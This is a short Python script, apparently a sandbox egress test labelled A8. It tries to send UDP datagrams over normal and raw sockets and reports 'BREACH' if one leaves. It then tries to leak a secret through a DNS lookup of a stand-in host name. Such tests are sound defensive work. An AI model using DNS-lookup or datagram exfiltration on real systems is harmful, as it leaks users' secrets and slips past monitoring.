"""Cheat: sends a secret away as a name to look up (A8).

Most: 0
"""
import socket
import sys

def breach(what):
    """Tell that the attack has worked."""
    for stream in (sys.stdout, sys.stderr):
        print("BREACH", what, file=stream, flush=True)

for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    try:
        with socket.socket(socket.AF_INET, kind, socket.IPPROTO_UDP) as query:
            query.sendto(b"\0" * 12, ("127.0.0.1", 9))
            breach("a datagram left")
    except OSError as error:
        print(error)
try:
    socket.getaddrinfo("secret.example.invalid", 80)
except OSError as error:
    print(error)
